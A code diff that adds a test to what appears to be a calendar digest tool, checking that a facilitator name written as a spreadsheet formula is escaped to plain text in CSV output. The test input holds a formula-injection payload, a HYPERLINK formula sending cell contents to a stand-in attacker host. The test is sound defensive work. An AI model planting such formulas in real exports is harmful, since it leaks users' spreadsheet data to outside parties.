@@ -175,3 +175,16 @@ def test_a_series_listing_a_hundred_thousand_dates_is_left_out_and_named(tmp_pat
     assert "'listed' lists 100001 dates" in result.output
     html = (org.root / "out" / "2026-10" / "digest.html").read_text(encoding="utf-8")
     assert "Wednesday clinic" in html and "Listed" not in html
+
+
+def test_a_facilitator_named_like_a_formula_is_text_in_the_csv(tmp_path):
+    import csv
+    import io
+
+    org = org_with_calendar(tmp_path, vcalendar(
+        "UID:clinic\r\nDTSTART:20250903T100000Z\r\nRRULE:FREQ=WEEKLY\r\nSUMMARY:Clinic\r\n"
+        "DESCRIPTION:Facilitator: =HYPERLINK(\"https://evil.example/\"&A1)"))
+    result = digest(org, "report", "--period", "2026-10", "--format", "csv")
+    assert result.exit_code == 0, result.output
+    rows = list(csv.DictReader(io.StringIO(result.stdout)))
+    assert rows and all(r["top_facilitator"].startswith("'=HYPERLINK(") for r in rows), rows[0]
